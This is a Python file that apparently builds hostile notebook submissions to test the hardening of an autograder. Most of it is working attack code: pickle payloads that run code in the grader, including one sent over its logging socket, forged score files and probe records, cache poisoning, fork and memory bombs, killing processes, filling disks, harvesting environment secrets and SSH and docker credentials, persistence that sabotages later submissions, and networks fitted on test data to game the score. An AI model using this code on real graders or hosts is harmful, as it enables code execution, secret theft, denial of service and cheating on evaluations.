BACKGROUND_REWRITER = '''\
# Class 5: processes that outlive the kernel (one started with Popen in a new session, one detached
# by a double fork with setsid) and keep rewriting every results.json/results pickle they can find
# with full marks for 60 s, long after the grader thinks the notebook is done.
import json, os, subprocess, sys, tempfile

REWRITER = r"""
import glob, json, os, pickle, sys, tempfile, time
forged, dirs = json.loads(sys.argv[1]), json.loads(sys.argv[2])
deadline = time.monotonic() + 60
while time.monotonic() < deadline:
    for folder in dirs:
        path = os.path.join(folder, "results.json")
        try:
            if not os.path.exists(path) or json.load(open(path)).get("score") != forged["score"]:
                with open(path, "w") as f:
                    json.dump(forged, f)
        except Exception:
            pass
    pickles = glob.glob(os.path.join(tempfile.gettempdir(), "*.pkl")) + [os.path.join(d, "results.pkl") for d in dirs]
    for path in pickles:
        try:
            with open(path, "rb") as f:
                results = pickle.load(f)
            if not getattr(results, "_rewritten", False):
                for test_file in results.results.values():
                    test_file.update_score(test_file.possible)
                results._rewritten = True
                with open(path, "wb") as f:
                    pickle.dump(results, f)
        except Exception:
            pass
    time.sleep(0.02)
"""
ARGS = [sys.executable, "-c", REWRITER, json.dumps(FORGED), json.dumps(_result_dirs() + [tempfile.gettempdir()])]
subprocess.Popen(ARGS, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, close_fds=True)
pid = os.fork()
if pid == 0:  # child: new session, fork again, let the middle process die so init adopts the worker
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, ARGS)
    finally:
        os._exit(0)
os.waitpid(pid, 0)
print("rewriters started")
'''

FORGED_PROBE_RECORDS = '''\
# Class 5: the hardened grader reads probe records (JSON lines) from this container. Try to get ours
# in first: on stdout, on the kernel's own fds 1/2, on the pipes of our parent (and of PID 1 when
# armed), before every probe cell (a pre_run_cell hook reads the probe call and answers it), and by
# rewriting whatever is displayed under optgrade's mime type. The values are junk (NaN) with
# "passed" claims: they are worth nothing unless the grader trusts claims or NaN passes a check.
import ast, json, os, re
import IPython.display
from IPython import get_ipython

MIME = "application/vnd.optgrade.probe+json"
QUESTIONS = @@QUESTIONS@@
ARMED = os.getuid() == 10002 or os.environ.get("OPTGRADE_HOSTILE_ARMED") == "1"


def _record(question, names=()):
    return {"event": "probe", "question": question, "cell": 0, "passed": True, "score": 999,
            "tests": {name: {"value": float("nan")} for name in names},
            "public": [{"name": question, "passed": True, "message": "✅ all tests passed"}]}


lines = [json.dumps(_record(q)) for q in QUESTIONS]
lines += [json.dumps({"question": q, "name": q, "points": p, "passed": True, "message": "passed"})
          for q, p in QUESTIONS.items()]
lines += [json.dumps({"event": "done"}), json.dumps({"done": True})]
TEXT = "\\n".join(lines) + "\\n"
print(TEXT)
for fd in (1, 2):
    try:
        os.write(fd, TEXT.encode())
    except OSError as error:
        print("fd", fd, error)
for pid in [os.getppid()] + ([1] if ARMED else []):
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as error:
        print(pid, error)
        continue
    for fd in fds:
        path = f"/proc/{pid}/fd/{fd}"
        try:
            if not os.readlink(path).startswith("pipe:"):
                continue
            out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            try:
                os.write(out, TEXT.encode())
                print("wrote to", path)
            finally:
                os.close(out)
        except OSError as error:
            print(path, error)

CALL = re.compile(r"""__optgrade_probe\\(\\s*(['"])(\\w+)\\1\\s*,\\s*(\\[[^\\]]*\\])""")


def _answer_first(info):
    match = CALL.search(getattr(info, "raw_cell", "") or "")
    if match:
        IPython.display.display({MIME: _record(match.group(2), ast.literal_eval(match.group(3)))}, raw=True)


get_ipython().events.register("pre_run_cell", _answer_first)
_real_display = IPython.display.display


def _display(*objs, **kwargs):
    for obj in objs:
        if isinstance(obj, dict) and isinstance(obj.get(MIME), dict):
            record = obj[MIME]
            record["tests"] = {name: {"value": float("nan")} for name in record.get("tests", {})}
            for case in record.get("public", []):
                case["passed"] = True
    return _real_display(*objs, **kwargs)


IPython.display.display = _display
'''

POISON_VERDICT_CACHE = '''\
# Class 5: poison the grading host's verdict cache. This notebook's network is the reference's, so
# once any honest copy is graded, the cache holds "passed" for its data. Rewrite our q4_quality probe
# record to carry that data *and* an error: a cache keyed on the value alone would hand out the
# cached "passed", where a fresh check judges the error. Also plant look-alike cache entries
# (full marks) wherever this container can write, in case a cache folder is shared with it.
import json, os, pathlib, tempfile
import IPython.display

MIME = "application/vnd.optgrade.probe+json"
_real_display = IPython.display.display


def _display(*objs, **kwargs):
    for obj in objs:
        if isinstance(obj, dict) and isinstance(obj.get(MIME), dict):
            entry = obj[MIME].get("tests", {}).get("test_q4_quality_balanced_accuracy")
            if isinstance(entry, dict) and "value" in entry:
                entry["error"] = "planted next to the 2019 network's data"
    return _real_display(*objs, **kwargs)


IPython.display.display = _display
FAKE = {"question": "q4_quality", "name": "test_q4_quality_balanced_accuracy", "points": 4.0, "passed": True,
        "message": "passed"}
for folder in {os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/tmp", "/work"}:
    for sub in ("", "verdicts", ".cache/optgrade/verdicts"):
        try:
            target = pathlib.Path(folder, sub, "00")
            target.mkdir(parents=True, exist_ok=True)
            (target / ("0" * 64 + ".json")).write_text(json.dumps(FAKE))
        except OSError:
            pass
'''

# the payloads run by the grader when it unpickles our files (never in this script)
RUNNER_PAYLOAD = '''\
import pathlib, tempfile
import otter.run.run_autograder.runners.python_runner as runner
real = runner.grade_notebook
def forged(*args, **kwargs):
    results = real(*args, **kwargs)
    for test_file in results.results.values():
        test_file.update_score(test_file.possible)
    return results
runner.grade_notebook = forged
pathlib.Path(tempfile.gettempdir(), "optgrade-hostile-pwned-otter-log").write_text("code ran in the grader")
'''


class _Exec:
    """Pickles to `exec(code, {})`: loading the pickle runs the code (in a namespace of its own)."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code, {}))


def malicious_otter_log() -> bytes:
    return pickle.dumps(_Exec(RUNNER_PAYLOAD), protocol=2)


MALICIOUS_PICKLES = '''\
# Class 6: the grader unpickles two files it thinks it wrote itself. (1) Otter's results pickle: patch
# pickle.dump so Otter's last cell writes a pickle that, when the grader loads it, runs our code in
# the grader (leaves a marker file) and then yields the real results at full marks. (2) .OTTER_LOG
# (dill): plant one that runs code in the grader wherever a grader looks for it.
import os, pickle

OTTER_LOG = @@OTTER_LOG@@


class _Eval:
    def __init__(self, expression):
        self.expression = expression

    def __reduce__(self):
        return (eval, (self.expression,))


_real_dump = pickle.dump


def _dump_with_payload(obj, file, *args, **kwargs):
    if hasattr(obj, "results"):
        for test_file in obj.results.values():
            test_file.update_score(test_file.possible)
        obj = _Eval("(__import__('pathlib').Path(__import__('tempfile').gettempdir(), "
                    "'optgrade-hostile-pwned-results-pickle').write_text('code ran in the grader'), "
                    f"__import__('pickle').loads({pickle.dumps(obj)!r}))[1]")
    return _real_dump(obj, file, *args, **kwargs)


pickle.dump = _dump_with_payload
for folder in {".", "..", "../submission", "/autograder/submission", "/tmp", os.path.expanduser("~")}:
    try:
        with open(os.path.join(folder, ".OTTER_LOG"), "wb") as f:
            f.write(OTTER_LOG)
        print("planted", os.path.join(folder, ".OTTER_LOG"))
    except OSError as error:
        print(folder, error)
'''

LOGGING_SOCKET = '''\
# Class 6: Otter's grader listens on a local TCP port for this kernel's log records and unpickles
# whatever arrives (otter/execute/logging.py). Send it a "log record" that runs code in the grader:
# it leaves a marker file and patches the grader's pickle.load so the results it reads get full marks.
import logging.handlers, pickle, socket, struct
import otter.logging

PAYLOAD = """
import pickle, pathlib, tempfile
_real_load = pickle.load
def _full_marks_load(file, *args, **kwargs):
    results = _real_load(file, *args, **kwargs)
    for test_file in getattr(results, "results", {}).values():
        test_file.update_score(test_file.possible)
    return results
pickle.load = _full_marks_load
pathlib.Path(tempfile.gettempdir(), "optgrade-hostile-pwned-log-socket").write_text("code ran in the grader")
"""


class _Eval:
    def __init__(self, expression):
        self.expression = expression

    def __reduce__(self):
        return (eval, (self.expression,))


record = _Eval(f"(exec({PAYLOAD!r}, {{}}), {{'name': 'hostile', 'msg': 'hello from the kernel', 'levelno': 50, "
               f"'levelname': 'CRITICAL'}})[1]")
data = pickle.dumps(record)
targets = {(h.host, h.port) for h in otter.logging._handlers if isinstance(h, logging.handlers.SocketHandler)}
for host, port in sorted(targets):
    try:
        with socket.create_connection((host, port), timeout=5) as connection:
            connection.sendall(struct.pack(">L", len(data)) + data)
        print("sent to", host, port)
    except OSError as error:
        print(host, port, error)
print("log servers found:", targets)
'''

SYS_EXIT = '''\
# Class 7: end the notebook here (IPython turns SystemExit into an error message).
import sys
sys.exit(0)
'''

OS_EXIT = '''\
# Class 7: end the kernel process at once, no cleanup.
import os
os._exit(0)
'''

IPYTHON_EXIT = '''\
# Class 7: IPython's exit(): the kernel shuts itself down after this cell.
exit()
'''

RAISE_BASE = ['''\
# Class 7: exceptions that are not Exceptions.
raise BaseException("stop grading here")
''', '''\
raise KeyboardInterrupt
''', '''\
raise GeneratorExit
''']

KILL_PARENT = armed('''\
# Class 7: signal our parent (the runner), PID 1 and every other process we can see; the polite
# signals first (PID 1 only receives those it has handlers for, e.g. SIGINT in Python), then SIGKILL.
@@ARMED@@
import signal

if ARMED:
    for pid in sorted({os.getppid(), 1}):
        for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError as error:
                print(pid, sig, error)
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
''')

INFINITE_LOOP = '''\
# Class 7: never finish.
while True:
    pass
'''

LOOP_IGNORING_SIGNALS = '''\
# Class 7: never finish, and ignore the signals a grader would use to interrupt or stop the kernel.
import signal

for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1, signal.SIGUSR2,
            signal.SIGALRM):
    signal.signal(sig, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
'''

PRINT_100MB = '''\
# Class 7: 100 MB through the kernel's output stream (Jupyter's iopub), then 100 MB straight to the
# kernel process's fd 1.
import os

chunk = "x" * (1 << 20)
for _ in range(100):
    print(chunk)
for _ in range(100):
    os.write(1, (chunk + "\\n").encode())
'''

FLOOD_RECORDS = armed('''\
# Class 7: 100 MB of junk into every pipe of our parent and of PID 1 (one of them is the channel the
# grader reads the probe records from). Non-blocking, at most 60 s.
@@ARMED@@
import time

if ARMED:
    junk, deadline = ("y" * ((1 << 20) - 1) + "\\n").encode(), time.monotonic() + 60
    for pid in sorted({os.getppid(), 1}):
        for fd in os.listdir(f"/proc/{pid}/fd"):
            path = f"/proc/{pid}/fd/{fd}"
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as error:
                print(path, error)
                continue
            written = 0
            while written < 100 * len(junk) and time.monotonic() < deadline:
                try:
                    written += os.write(out, junk)
                except BlockingIOError:
                    time.sleep(0.01)
                except OSError as error:
                    print(path, error)
                    break
            os.close(out)
            print(path, written, "bytes")
''')

FORK_BOMB = armed('''\
# Class 7: fork until the pids run out (at most 10 000 forks); every child leaves our session,
# ignores the polite signals and holds its pid for an hour.
@@ARMED@@
import signal, time

children = failures = 0
if ARMED:
    for _ in range(10_000):
        try:
            pid = os.fork()
        except OSError:
            failures += 1
            continue
        if pid == 0:
            try:
                os.setsid()
                for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                    signal.signal(sig, signal.SIG_IGN)
                time.sleep(3600)
            finally:
                os._exit(0)
        children += 1
print(children, "children,", failures, "failed forks")
''')

MEMORY_BOMB = armed('''\
# Class 7: allocate 20 GB in 100 MB chunks, each written so the memory is really taken.
@@ARMED@@
hog = []
if ARMED:
    for _ in range(200):
        hog.append(b"\\x01" * (100 << 20))
''')

CHMOD_AND_FILL = armed('''\
# Class 7: fill every writable filesystem we can reach (1 MB at a time, at most 8 GB in all), then
# take all permissions away from every directory we own (deepest first), our working folder included.
@@ARMED@@
import tempfile

if ARMED:
    roots = sorted({os.getcwd(), tempfile.gettempdir(), "/tmp", "/dev/shm", "/work", os.path.expanduser("~")})
    block, total = b"\\0" * (1 << 20), 0
    for n, root in enumerate(roots):
        try:
            with open(os.path.join(root, f".hostile-fill-{n}"), "wb") as f:
                while total < 8 << 30:
                    f.write(block)
                    total += len(block)
        except OSError as error:
            print(root, error, total >> 20, "MB written so far")
    for root in roots:
        for folder, dirs, files in os.walk(root, topdown=False):
            try:
                os.chmod(folder, 0)
            except OSError:
                pass
''')

READ_OTHERS_AND_SECRETS = '''\
# Class 8: look at other submissions and at secrets: the input and submission folders, our
# neighbours, mounts, tokens in the environment, Docker's socket and credentials. Read-only.
import glob, os

for folder in ("/input", "/autograder/submission", "/autograder", "..", "../..", "/work", "/tmp", "/output",
               "/checks", "/probes", "/run/secrets"):
    try:
        print(folder, sorted(os.listdir(folder))[:50])
    except OSError as error:
        print(folder, error)
for path in sorted(set(glob.glob("../*.ipynb") + glob.glob("../../*/*.ipynb") + glob.glob("../../*/*/*.ipynb") +
                       glob.glob("/input/*") + glob.glob("/tmp/**/*.ipynb", recursive=True)[:20])):
    try:
        print(path, open(path, errors="replace").read(300))
    except OSError as error:
        print(path, error)
SECRETS = {k: v for k, v in os.environ.items()
           if any(w in k.upper() for w in ("TOKEN", "KEY", "SECRET", "PASS", "AUTH", "DOCKER", "AWS", "GITHUB"))}
print("secrets in the environment:", SECRETS)
for path in ("/var/run/docker.sock", "/run/docker.sock", os.path.expanduser("~/.docker/config.json"),
             os.path.expanduser("~/.ssh"), os.path.expanduser("~/.netrc"), os.path.expanduser("~/.git-credentials"),
             "/proc/self/mountinfo"):
    try:
        print(path, os.listdir(path) if os.path.isdir(path) else open(path, errors="replace").read(2000))
    except OSError as error:
        print(path, error)
'''

NETWORK_ACCESS = '''\
# Class 8: reach the outside: a DNS server, PyPI over TLS and HTTP. 5 s timeouts.
import socket, urllib.request

for host, port in (("1.1.1.1", 53), ("pypi.org", 443), ("8.8.8.8", 53)):
    try:
        socket.create_connection((host, port), timeout=5).close()
        print("connected to", host, port)
    except OSError as error:
        print(host, port, error)
try:
    print(urllib.request.urlopen("https://pypi.org/simple/numpy/", timeout=5).read(200))
except Exception as error:
    print("https:", error)
'''

PERSISTENCE = armed('''\
# Class 8: sabotage the NEXT submission graded on this machine: an IPython startup file (numpy
# comparisons always False, probe output broken), a user kernelspec for "python3" that dies at once,
# usercustomize/sitecustomize/.pth files that end every Python process, a .OTTER_LOG, and failing
# tests appended to any autograder zip we can write. Bounded; prints what it managed.
@@ARMED@@
import json, site, sys, time, zipfile

STARTUP = """import numpy, json
numpy.isclose = numpy.allclose = numpy.array_equal = lambda *a, **k: False
_dumps = json.dumps
json.dumps = lambda obj, *a, **k: _dumps("sabotaged by the previous submission")
print("hostile startup file ran")
"""
DIE = "import os; os._exit(3)\\n"
planted = []


def plant(path, text):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        planted.append(path)
    except OSError as error:
        print(path, error)


if ARMED:
    homes = {os.path.expanduser("~"), "/tmp", os.environ.get("HOME", "/tmp"), os.getcwd()}
    for home in sorted(homes):
        plant(os.path.join(home, ".ipython/profile_default/startup/00-hostile.py"), STARTUP)
        plant(os.path.join(home, ".local/share/jupyter/kernels/python3/kernel.json"),
              json.dumps({"argv": [sys.executable, "-c", DIE], "display_name": "Python 3", "language": "python"}))
    for folder in [site.getusersitepackages()] + site.getsitepackages() + sys.path:
        if folder and os.path.isdir(folder):
            plant(os.path.join(folder, "hostile.pth"), DIE)
            plant(os.path.join(folder, "sitecustomize.py"), DIE)
            plant(os.path.join(folder, "usercustomize.py"), DIE)
    for folder in {"..", "/autograder/submission", "/tmp", "/work"}:
        plant(os.path.join(folder, ".OTTER_LOG"), "not a log")
    deadline = time.monotonic() + 10
    for root, dirs, files in os.walk("/"):
        if time.monotonic() > deadline:
            break
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            if name.endswith(".zip") and "autograder" in name or name in ("probes.py", "checks.py"):
                path = os.path.join(root, name)
                try:
                    if name.endswith(".zip"):
                        with zipfile.ZipFile(path, "a") as zf:
                            zf.writestr("tests/q1_1.py", "raise SystemExit('sabotaged')\\n")
                    else:
                        with open(path, "a") as f:
                            f.write("\\nraise SystemExit('sabotaged')\\n")
                    planted.append(path)
                except OSError as error:
                    print(path, error)
print("planted:", planted)
''')


# --- class 10: the trained-network points (q4_quality) without honest training ------------------
# These start from the REFERENCE solution: a cell right after its get_net/get_compiled_model cell makes
# get_net('glorot_uniform', 'zeros') -- exactly that call, the one q4_quality trains -- return the
# attack's network; every other call keeps the honest 2019 network. So every other question keeps the
# reference's points, and q4_net earns what the attack network earns per test (`Sample.q4_net`).

ATTACK_NET_DISPATCH = '''\


# Only the call the grader trains, get_net('glorot_uniform', 'zeros') with no other arguments, gets the
# network above; every other call (the other q4_net calls, get_compiled_model, the experiments) gets
# the honest 2019 network defined before.
_honest_get_net = globals().get('_honest_get_net', get_net)


def get_net(*args, **kwargs):
    if args == ('glorot_uniform', 'zeros') and not kwargs:
        return _attack_net(*args)
    return _honest_get_net(*args, **kwargs)
'''

CONSTANT_WEIGHTS = '''\
# Class 10: the CNN points without honest training. The grader trains what
# get_net('glorot_uniform', 'zeros') describes and measures it on the held-out part of page 1: the
# very patches this notebook holds as X_test / y_test. So fit a 93-parameter network on X_test here
# (two fixed 3x3 filters, the dense layer by class-balanced least squares: well under a second) and
# hand its weights to the grader as Constant initializers, so that its training starts at the answer.
# @@HOW@@
import keras
import numpy as np

# Conv2D(2, 3) filters, Keras layout (3, 3, 1, 2): darkness (1 - local mean) and a Laplacian (ink edges)
_KERNELS = np.stack([np.full((3, 3), -1 / 9), np.array([[1, 1, 1], [1, -8, 1], [1, 1, 1]]) / 8],
                    axis=-1)[:, :, None]
_BIASES = np.array([1.0, 0.0])
LAYER_OPTIONS = @@LAYER_OPTIONS@@


def _features(X):
    """What Conv2D(2, 3, relu) -> MaxPooling2D(2) -> Flatten computes, in numpy: 72 numbers a patch."""
    X = np.asarray(X, dtype=float)[..., 0]
    windows = np.lib.stride_tricks.sliding_window_view(X, (3, 3), axis=(1, 2))
    maps = np.maximum(np.einsum('nijkl,klc->nijc', windows, _KERNELS[:, :, 0]) + _BIASES, 0)
    return maps[:, :12, :12].reshape(len(X), 6, 2, 6, 2, 2).max(axis=(2, 4)).reshape(len(X), -1)


def _fit_dense(X, y):
    """Dense(1, sigmoid) on the features: least squares on the logits +-3, both classes weighted equally."""
    y = np.asarray(y).reshape(-1) == 1
    A = np.hstack([_features(X), np.ones((len(y), 1))])
    s = np.sqrt(np.where(y, 0.5 / y.mean(), 0.5 / (1 - y.mean())))
    w = np.linalg.lstsq(A * s[:, None], np.where(y, 3.0, -3.0) * s, rcond=None)[0]
    return w[:-1, None], w[-1:]


_dense_kernel, _dense_bias = _fit_dense(X_test, y_test)
_VALUES = {'conv_kernel': _KERNELS, 'conv_bias': _BIASES, 'dense_kernel': _dense_kernel, 'dense_bias': _dense_bias}
WEIGHTS = {name: @@VALUE@@ for name, value in _VALUES.items()}
_fitted = (_features(X_test) @ _dense_kernel + _dense_bias).reshape(-1) > 0
print(f'fitted on X_test: balanced accuracy {balanced_accuracy_score(y_test, _fitted):.3f} there')


def _attack_net(weight_init, bias_init):
    given = lambda name: keras.initializers.Constant(WEIGHTS[name])  # noqa: E731
    return keras.Sequential([
        keras.Input(shape=(15, 15, 1)),
        keras.layers.Conv2D(2, 3, activation='relu', kernel_initializer=given('conv_kernel'),
                            bias_initializer=given('conv_bias'), **LAYER_OPTIONS),
        keras.layers.MaxPooling2D(pool_size=(2, 2), **LAYER_OPTIONS),
        keras.layers.Flatten(**LAYER_OPTIONS),
        keras.layers.Dense(1, activation='sigmoid', kernel_initializer=given('dense_kernel'),
                           bias_initializer=given('dense_bias'), **LAYER_OPTIONS),
    ])
''' + ATTACK_NET_DISPATCH

CONSTANT_VARIANTS = {
    "lists": {"@@HOW@@": "The weights are nested lists: Constant([[...]]).", "@@LAYER_OPTIONS@@": "{}",
              "@@VALUE@@": "np.round(value, 6).tolist()"},
    "frozen": {"@@HOW@@": "The weights are nested lists, and every layer is trainable=False: training starts at "
                          "the answer\n# and cannot leave it.",
               "@@LAYER_OPTIONS@@": "{'trainable': False}", "@@VALUE@@": "np.round(value, 6).tolist()"},
    "numpy": {"@@HOW@@": "The weights are numpy arrays: to_json writes each as {\"class_name\": \"__numpy__\", "
                         "\"config\": {\"value\": [...],\n# \"dtype\": \"float32\"}}.",
              "@@LAYER_OPTIONS@@": "{}", "@@VALUE@@": "np.round(value, 6).astype('float32')"},
}


def constant_weights(variant: str) -> str:
    source = CONSTANT_WEIGHTS
    for mark, text in CONSTANT_VARIANTS[variant].items():
        if source.count(mark) != 1:
            raise SystemExit(f"make_hostile: {mark} must occur once in CONSTANT_WEIGHTS")
        source = source.replace(mark, text)
    return source


HUGE_BUILD_CONFIG = '''\
# Class 10: hurt the grader through the network's description. get_net('glorot_uniform', 'zeros')
# returns a real, small Keras model (Flatten -> Dense(1024) -> Dense(1), 232k parameters) whose
# to_json is edited: the first Dense layer's build_config claims 1,100,000 inputs. Keras builds every
# layer from its build_config while it deserialises, so a checker that loads this JSON before it
# counts parameters allocates a 1,100,000 x 1024 kernel (1.1 G parameters: 4.5 GB, about 15 GB at the
# peak with Keras 3.15) and runs out of memory.
import json

import keras


def _attack_net(weight_init, bias_init):
    init = dict(kernel_initializer=weight_init, bias_initializer=bias_init)
    model = keras.Sequential([
        keras.Input(shape=(15, 15, 1)),
        keras.layers.Flatten(),
        keras.layers.Dense(1024, activation='relu', **init),
        keras.layers.Dense(1, activation='sigmoid', **init),
    ])
    honest_to_json = model.to_json

    def to_json(**kwargs):
        description = json.loads(honest_to_json(**kwargs))
        dense = next(layer for layer in description['config']['layers'] if layer['class_name'] == 'Dense')
        dense['build_config'] = {'input_shape': [None, 1100000]}
        return json.dumps(description)

    model.to_json = to_json
    return model
''' + ATTACK_NET_DISPATCH

SLOW_LEGAL_STACK = '''\
# Class 10: a network that breaks no rule of the layer list: allowed layers only (7 besides the
# input), built-in initializers, 2.42 M parameters (under 3 M) -- but five Conv2D(256, 3,
# padding='same') at the full 15x15 resolution cost about 56 times the reference network's FLOPs, so
# training it as the grader does (14 epochs) takes many minutes of the grader's time.
import keras


def _attack_net(weight_init, bias_init):
    init = dict(kernel_initializer=weight_init, bias_initializer=bias_init)
    convolutions = [keras.layers.Conv2D(256, 3, padding='same', activation='relu', **init) for _ in range(5)]
    return keras.Sequential([keras.Input(shape=(15, 15, 1))] + convolutions + [
        keras.layers.Flatten(),
        keras.layers.Dense(1, activation='sigmoid', **init),
    ])
''' + ATTACK_NET_DISPATCH


# --- building the samples -----------------------------------------------------------------------

@dataclass(frozen=True)
class Sample:
    file: str
    attack_class: int
    build: Callable[[], bytes]
    expected_status: str
    notes: str
    # None: computed (0 for blank-based, the questions checked before the attack for after-q3, the
    # reference's points less q4_quality and the q4_net tests lost for attack-net)
    expected_total: float | None = None
    base: str = "blank"
    # attack-net only: why q4_quality is refused, and what each q4_net test (Q4_NET_TESTS) earns and why
    refused: str = ""
    q4_net: tuple[tuple[str, float, str], ...] = ()


def notebook_bytes(nb: nbformat.NotebookNode, *, validate: bool = True) -> bytes:
    if validate:
        nbformat.validate(nb)
    return (nbformat.writes(nb) + "\n").encode("utf-8")


def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def early(attacks: list[str], tag: str, nb_factory: Callable[[], nbformat.NotebookNode] = blank):
    """Attack cells right after Otter's init cell (before anything is checked)."""
    def build() -> nbformat.NotebookNode:
        nb = nb_factory()
        insert_after(nb, "", attacks, tag)
        return nb
    return build


def late(attacks: list[str], tag: str):
    """The after-q3 notebook with the attack cells right after the q3_stuck check."""
    def build() -> nbformat.NotebookNode:
        nb = after_q3()
        insert_after(nb, CHECK_CELL.format("q3_stuck"), attacks, tag)
        return nb
    return build


def with_attack_net(source: str, tag: str) -> Callable[[], nbformat.NotebookNode]:
    """The reference, with the attack cell right after its get_net/get_compiled_model cell (so before
    the q4_net check and everything that follows)."""
    def build() -> nbformat.NotebookNode:
        nb = reference()
        insert_after(nb, after_cell_defining(nb, "get_net"), [source], tag)
        return nb
    return build


# the q4_net tests of the rubric and their points
Q4_NET_TESTS = {"architecture": 1.0, "initializers": 1.0, "batch norm": 0.5, "compile": 0.5}
NOT_2019 = "architecture", 0.0, "not the 2019 layer list"
OTHER_CALLS = (("batch norm", 0.5, "batch_norm=True gets the reference network, the attack network has no "
                "BatchNormalization"),
               ("compile", 0.5, "get_compiled_model calls get_net with four arguments: the reference network, "
                "compiled with RMSprop and binary cross-entropy, random_uniform passed through"))
CONSTANTS_NET = (NOT_2019, ("initializers", 0.0, "Constant, not the requested glorot_uniform / zeros"),
                 *OTHER_CALLS)
PASSED_THROUGH_NET = (NOT_2019, ("initializers", 1.0, "glorot_uniform / zeros passed through, random_uniform gets "
                                 "the reference network"), *OTHER_CALLS)


def as_bytes(factory: Callable[[], nbformat.NotebookNode]) -> Callable[[], bytes]:
    return lambda: notebook_bytes(factory())


def _sgd_reference(momentum: bool) -> tuple[list[float], list[float], int]:
    """First and last history entries of the reference optimisers from theta_0 = -0.95 (the numbers a
    classmate's printout would show), computed here so the lying sample serves exact figures."""
    f = lambda t: t * math.cos(math.pi * t)  # noqa: E731
    df = lambda t: math.cos(math.pi * t) - math.pi * t * math.sin(math.pi * t)  # noqa: E731
    x, m, update, history = -0.95, 1.0, 1000.0, []
    while abs(update) > 1e-6 and len(history) < 10000:
        update = 0.01 * df(x)
        if momentum:
            m = 0.6 * m - update
            x += m
            history.append([len(history) + 1.0, x, m, f(x), df(x)])
        else:
            x -= update
            history.append([len(history) + 1.0, x, f(x), df(x)])
    first, last = ([round(v, 12) for v in e] for e in (history[0], history[-1]))
    return first, last, len(history)


def lying_histories() -> nbformat.NotebookNode:
    sgd_first, sgd_last, sgd_steps = _sgd_reference(False)
    mom_first, mom_last, mom_steps = _sgd_reference(True)
    sgd_source = (LYING_HISTORIES.replace("@@SGD_FIRST@@", repr(sgd_first)).replace("@@SGD_LAST@@", repr(sgd_last))
                  .replace("@@SGD_STEPS@@", str(sgd_steps)))
    momentum_source = (LYING_MOMENTUM.replace("@@MOMENTUM_FIRST@@", repr(mom_first))
                       .replace("@@MOMENTUM_LAST@@", repr(mom_last)).replace("@@MOMENTUM_STEPS@@", str(mom_steps)))
    nb = blank()
    # after the template's own (empty) definitions, so ours are the ones the checks see
    insert_after(nb, after_cell_defining(nb, "sgd"), [sgd_source], "lying-sgd")
    insert_after(nb, after_cell_defining(nb, "sgd_momentum"), [momentum_source], "lying-momentum")
    return nb


ANSWER_CELLS = {"q1_1_labels": "q1_1_labels = ...", "q2_2_true_statements": "q2_2_true_statements = ...",
                "q3_gd_gets_stuck": "q3_gd_gets_stuck = ..."}


def answers_from_hidden_tests() -> nbformat.NotebookNode:
    nb = blank()
    insert_after(nb, "", [ANSWERS_FROM_HIDDEN_TESTS], "answers-from-tests")
    for name, cell in ANSWER_CELLS.items():  # after the template's `... = ...` so ours count
        insert_after(nb, cell, [use_answer(name)], f"answer-{name.replace('_', '-')}")
    return nb


def always_equal_answers() -> nbformat.NotebookNode:
    nb = blank()
    insert_after(nb, ANSWER_CELLS["q1_1_labels"], [ALWAYS_EQUAL_ANSWERS], "always-equal")
    insert_after(nb, ANSWER_CELLS["q3_gd_gets_stuck"], [ALWAYS_EQUAL_STUCK], "always-equal-stuck")
    return nb


def with_get_net(source: str, tag: str, prelude: list[str] | None = None) -> Callable[[], nbformat.NotebookNode]:
    def build() -> nbformat.NotebookNode:
        nb = blank()
        if prelude:
            insert_after(nb, "", prelude, f"{tag}-early")
        insert_after(nb, after_cell_defining(nb, "get_net"), [source], tag)
        return nb
    return build


def placeholders_after(attack: str, tag: str, nb_factory: Callable[[], nbformat.NotebookNode] = blank,
                       anchor: str = "", only: tuple[str, ...] = tuple(PLACEHOLDERS)
                       ) -> Callable[[], nbformat.NotebookNode]:
    """The class 3 attack at `anchor`, and placeholder functions after the template's empty ones."""
    def build() -> nbformat.NotebookNode:
        nb = nb_factory()
        insert_after(nb, cell_containing(nb, anchor) if anchor.startswith("import ") else anchor, [attack], tag)
        add_placeholders(nb, tag, only)
        return nb
    return build


def prefilled_outputs() -> nbformat.NotebookNode:
    """Blank template, but every grader.check cell already shows success (stale outputs)."""
    nb = blank()
    count = 0
    for cell in nb.cells:
        if cell.cell_type != "code":
            continue
        count += 1
        cell.execution_count = count
        question = next((q for q in POINTS if CHECK_CELL.format(q) in cell.source), None)
        if question is None:
            continue
        record = {"event": "probe", "question": question, "passed": True,
                  "tests": {f"test_{question}": {"value": True}},
                  "public": [{"name": question, "passed": True, "message": "✅ Test case passed"}]}
        cell.outputs = [
            nbformat.v4.new_output("display_data", data={"application/vnd.optgrade.probe+json": record,
                                                         "text/plain": f"{question} passed! 💯"}),
            nbformat.v4.new_output("stream", name="stdout", text=json.dumps(record) + "\n"),
            nbformat.v4.new_output("execute_result", execution_count=count, data={
                "text/plain": f"{question} results: All test cases passed!",
